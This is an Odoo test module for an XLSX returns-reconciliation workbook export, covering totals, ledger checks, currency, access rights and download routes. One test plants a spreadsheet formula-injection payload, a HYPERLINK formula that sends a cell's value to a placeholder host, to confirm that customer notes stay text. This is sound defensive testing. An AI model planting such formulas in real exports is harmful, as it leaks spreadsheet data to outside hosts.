from datetime import date
from io import BytesIO

from openpyxl import load_workbook

from odoo.exceptions import AccessError
from odoo.tests import HttpCase, tagged

from ..controllers.reconciliation import XLSX
from .common_month_end import MonthEndCommon

DAY = date(2026, 11, 30)
HEADER = 4


class WorkbookCommon(MonthEndCommon):

    def _open(self, day=DAY, formulas=False):
        """The workbook as Excel shows it, or with the formulas in place of their values."""
        file = self.env['returns.workbook']._export(day)
        return load_workbook(BytesIO(file), data_only=not formulas)

    def _get_checks(self, book):
        """Differences by title, as the summary shows them."""
        return {row[0]: row[3] for row in book['Summary'].iter_rows(min_row=HEADER + 1, values_only=True)
                if row[3] is not None}

    def _get_rows(self, sheet):
        """The rows of a sheet as dicts, without the total."""
        titles, *rows = sheet.iter_rows(min_row=HEADER, values_only=True)
        return [dict(zip(titles, row, strict=True)) for row in rows[:-1] if any(row)]

    def _create_month(self):
        """Of each kind something at the end of November."""
        with self._on('2026-11-20'):
            orders = [self._create_paid_order() for _number in range(3)]
        with self._on('2026-11-25'):
            self.received, self.credited = (self._create_received_return(order) for order in orders[:2])
            self._credit(self.credited)
            self.policy.credit_trigger = 'on_approval'
            self.advance = self._create_confirmed_return(orders[2])
            self._credit(self.advance)
            self.policy.credit_trigger = 'manual'
        with self._on('2026-11-30'):
            self.env['returns.accrual'].create({'date': DAY}).action_accrue()


@tagged('post_install', '-at_install')
class TestReturnsWorkbook(WorkbookCommon):
    """What an accountant finds in the file."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._create_month(cls)

    def test_each_sheet_tells_its_returns(self):
        book = self._open()
        found = {
            name: [row['Return'] for row in self._get_rows(book[name])]
            for name in ('Received not credited', 'Credited not received', 'Cost proof', 'Exchange rates')}
        self.assertEqual(found, {
            'Received not credited': [self.received.name], 'Credited not received': [self.advance.name],
            'Cost proof': [self.credited.name], 'Exchange rates': []})
        self.assertEqual(
            [(row['Credit Note'], row['Open']) for row in self._get_rows(book['Not paid out'])],
            [(order.credit_note_ids.name, 230) for order in (self.credited, self.advance)])
        self.assertEqual([row['Tax Amount'] for row in self._get_rows(book['Tax'])], [30, 30])

    def test_totals_agree_with_the_ledger(self):
        checks = self._get_checks(self._open())
        self.assertEqual(len(checks), 6)
        self.assertEqual(set(checks.values()), {0})
        ledger = self.env['returns.workbook']._get_ledger(DAY)
        self.assertEqual(
            ledger, {'cost': 120, 'rate': 0, 'tax': 60, 'unpaid': 460, 'liability': 200, 'stock': 120})

    def test_another_exchange_rate_is_proved(self):
        currency = self.setup_other_currency('EUR', rates=[('2026-11-01', 0.5), ('2026-11-20', 0.4)])
        pricelist = self.env['product.pricelist'].create({'name': "EUR", 'currency_id': currency.id})
        self.company.returns_exchange_rate = 'credit_note'
        with self._on('2026-11-10'):
            order = self._create_delivered_order(pricelist_id=pricelist.id)
        with self._on('2026-11-25'):
            self._credit(self._create_received_return(order))
        book = self._open()
        row = self._get_rows(book['Exchange rates'])[0]
        self.assertEqual([row[name] for name in (
            "Invoice Rate", "Credit Rate", "Credited Net in Currency", "Credited Net", "Rate Difference",
        )], [0.5, 0.4, 200, 500, 100])
        self.assertEqual(set(self._get_checks(book).values()), {0})
        self.assertEqual(self.env['returns.workbook']._get_ledger(DAY)['rate'], 500)

    def test_cost_and_tax_are_those_of_the_month(self):
        """One piece came back and was credited in October, one in November."""
        self._create_policy(credit_trigger='manual')
        with self._on('2026-10-10'):
            return_order = self._create_confirmed_return(self._create_delivered_order())
        for day in ('2026-10-15', '2026-11-15'):
            with self._on(day):
                self._receive(return_order, quantity=1)
                self._credit(return_order)
        book = self._open()
        cost = next(row for row in self._get_rows(book['Cost proof']) if row['Return'] == return_order.name)
        self.assertEqual((cost["Value to Book"], cost["Cost Booked"]), (60, 60))
        self.assertEqual([row['Tax Amount'] for row in self._get_rows(book['Tax'])], [30, 30, 15])
        self.assertEqual(set(self._get_checks(book).values()), {0})
        october = self._open(date(2026, 10, 31))
        self.assertEqual([row['Return'] for row in self._get_rows(october['Cost proof'])], [return_order.name])
        self.assertEqual(set(self._get_checks(october).values()), {0})

    def test_what_was_paid_out_later_was_open_on_that_day(self):
        with self._on('2026-12-03'):
            self._pay(self.credited.credit_note_ids)
        for day, count in ((DAY, 2), (date(2026, 12, 31), 1)):
            book = self._open(day)
            self.assertEqual(len(self._get_rows(book['Not paid out'])), count)
            self.assertEqual(self._get_checks(book)["Not paid out"], 0)

    def test_each_company_has_a_workbook_of_its_own(self):
        other = self.setup_other_company()['company']
        book = self.env['returns.workbook'].with_context(allowed_company_ids=(other + self.company).ids)
        sheets = load_workbook(BytesIO(book._export(DAY)), data_only=True)
        self.assertEqual([self._get_rows(sheet) for sheet in sheets.worksheets[1:]], [[]] * 6)
        self.assertEqual(set(self._get_checks(sheets).values()), {0})

    def test_a_corrupted_row_makes_a_check_differ(self):
        for query, record, check in (
            ("UPDATE stock_move SET value = value + 7 WHERE id = %s", self.credited.line_ids.move_ids,
             "Cost: value of the goods booked this month"),
            ("UPDATE account_move_line SET balance = balance + 7 WHERE id = %s",
             self.credited.credit_note_ids.line_ids.filtered('tax_line_id'), "Tax credited this month"),
        ):
            self.env.flush_all()
            self.env.cr.execute(query, record.ids)
            self.env.invalidate_all()
            self.assertEqual(self._get_checks(self._open())[check], 7)

    def test_totals_are_live_and_numbers_are_numbers(self):
        book, values = self._open(formulas=True), self._open()
        sheet = book['Received not credited']
        total = next(cell for cell in sheet[sheet.max_row] if str(cell.value).startswith('=SUM('))
        column = total.column_letter
        self.assertEqual(total.value, f'=SUM({column}{HEADER + 1}:{column}{sheet.max_row - 1})')
        shown = [cell.value for cell in values['Received not credited'][column][HEADER:]]
        self.assertEqual(sum(shown[:-1]), shown[-1])
        self.assertIn(f"'Received not credited'!{column}{sheet.max_row}",
                      {cell.value.lstrip('=') for cell in book['Summary']['B'] if cell.value})
        checks = [cell for cell in book['Summary']['D'][HEADER:] if cell.value]
        self.assertEqual(
            [cell.value for cell in checks], [f'=ROUND(B{cell.row}-C{cell.row},2)' for cell in checks])
        self.assertIsInstance(self._get_rows(values['Cost proof'])[0]['Credited On'], date)

    def test_headers_stay_and_can_be_filtered(self):
        for sheet in self._open().worksheets[1:]:
            self.assertEqual(sheet.freeze_panes, f'B{HEADER + 1}')
            self.assertTrue(sheet.auto_filter.ref.startswith(f'A{HEADER}:'))
            self.assertIn(self.company.name, sheet['A2'].value)

    def test_the_note_of_a_customer_stays_text(self):
        evil = '=HYPERLINK("http://example.com?x="&A1,"click")'
        self.received.line_ids.customer_note = evil
        self.customer.name = '=1+1'
        row = self._get_rows(self._open(formulas=True)['Received not credited'])[0]
        cell = next(cell for cell in self._open(formulas=True)['Received not credited'][HEADER + 1]
                    if cell.value == evil)
        self.assertEqual((cell.data_type, cell.hyperlink), ('s', None))
        self.assertEqual(row['Customer'], '=1+1')

    def test_it_speaks_the_language_of_the_user(self):
        self.env['res.lang']._activate_lang('de_DE')
        self.env.user.lang = 'de_DE'
        book = self.env['returns.workbook'].with_context(lang='de_DE')
        self.assertEqual(book._get_date_format(), 'dd.mm.yyyy')
        names = load_workbook(BytesIO(book._export(DAY))).sheetnames
        self.assertEqual(names[:3], ["Zusammenfassung", "Nicht gutgeschrieben", "Nicht eingegangen"])

    def test_who_may_not_see_it_gets_no_file(self):
        with self.assertRaises(AccessError):
            self.env['returns.workbook'].with_user(self.stock_user)._export(DAY)

    def test_a_day_without_anything_gives_an_empty_workbook(self):
        book = self._open(date(2020, 1, 31))
        self.assertEqual(set(self._get_checks(book).values()), {0})


@tagged('post_install', '-at_install')
class TestReturnsWorkbookSize(WorkbookCommon):

    def _copy_rows(self, record, count, **references):
        """Copy the row of `record` so many times; `references` are SQL of columns that differ, `k` counts."""
        table, base = record._table, self.env[record._name].search([], order='id desc', limit=1).id
        columns = ", ".join(f"'{name}', {sql}" for name, sql in {'id': f'{base} + k', **references}.items())
        self.env.cr.execute("DISCARD PLANS")  # else foreign keys are checked as if the tables were still empty
        self.env.cr.execute(
            f"INSERT INTO {table} SELECT copy.* FROM {table} original, generate_series(1, {count}) k, "
            f"LATERAL jsonb_populate_record(NULL::{table}, to_jsonb(original) || jsonb_build_object({columns})) copy "
            f"WHERE original.id = {record.id}")
        self.env.cr.execute(f"ANALYZE {table}")
        return base

    def test_twenty_thousand_returns_are_all_in_it(self):
        count = 20_000
        with self._on('2026-11-25'):
            line = self._create_received_return(self._create_delivered_order()).line_ids
        self.env.flush_all()
        sale_line, invoice_line = line.sale_line_id, line.sale_line_id.invoice_lines
        order = self._copy_rows(sale_line.order_id, count)
        sold = self._copy_rows(sale_line, count, order_id=f'{order} + k')
        invoice = self._copy_rows(invoice_line.move_id, count, name="'INV/' || k")
        billed = self._copy_rows(invoice_line, count, move_id=f'{invoice} + k')
        return_order = self._copy_rows(line.order_id, count, name="'RMA/' || k")
        returned = self._copy_rows(line, count, order_id=f'{return_order} + k', sale_line_id=f'{sold} + k')
        self._copy_rows(line.move_ids, count, sale_line_id=f'{sold} + k', returns_line_id=f'{returned} + k')
        self.env.cr.execute(
            "INSERT INTO sale_order_line_invoice_rel (order_line_id, invoice_line_id) "
            f"SELECT {sold} + k, {billed} + k FROM generate_series(1, {count}) k")
        self.env.cr.execute("ANALYZE sale_order_line_invoice_rel")
        self.env.invalidate_all()
        sheet = self._open()['Received not credited']
        self.assertEqual(sheet.max_row, HEADER + 1 + count + 1)
        total = next(cell.column for cell in sheet[HEADER] if cell.value == "Net to Credit")
        self.assertEqual(sheet.cell(sheet.max_row, total).value, (count + 1) * 200)


@tagged('post_install', '-at_install')
class TestReturnsWorkbookDownload(WorkbookCommon, HttpCase):

    def test_it_is_downloaded_for_the_day_of_the_list(self):
        self.authenticate(self.accountant.login, self.accountant.login)
        response = self.url_open('/returns_management/reconciliation/2026-11-30.xlsx')
        self.assertEqual(response.status_code, 200)
        self.assertIn('Summary', load_workbook(BytesIO(response.content)).sheetnames)
        for address in ('2026-13-45.xlsx', 'x.xlsx', '2026-11-30.xlsx?company=999999'):
            self.assertEqual(self.url_open(f'/returns_management/reconciliation/{address}').status_code, 404)

    def test_nobody_without_rights_downloads_it(self):
        self.authenticate(self.stock_user.login, self.stock_user.login)
        response = self.url_open('/returns_management/reconciliation/2026-11-30.xlsx')
        self.assertEqual(response.status_code, 404)

    def test_the_buttons_of_the_list_and_of_the_dialog_lead_to_it(self):
        self.authenticate(self.accountant.login, self.accountant.login)
        dialog = self.env['returns.month.end'].with_user(self.accountant).create({'date': '2026-11-30'})
        for records in (self.env['returns.reconciliation'], dialog):
            action = self.make_jsonrpc_request('/web/dataset/call_button', {
                'model': records._name, 'method': 'action_export', 'args': [records.ids],
                'kwargs': {'context': {'returns_as_of': '2026-11-30'}}})
            with self.subTest(records._name):
                self.assertIn('/2026-11-30.xlsx', action['url'])
                self.assertEqual(self.url_open(action['url']).headers['Content-Type'], XLSX)
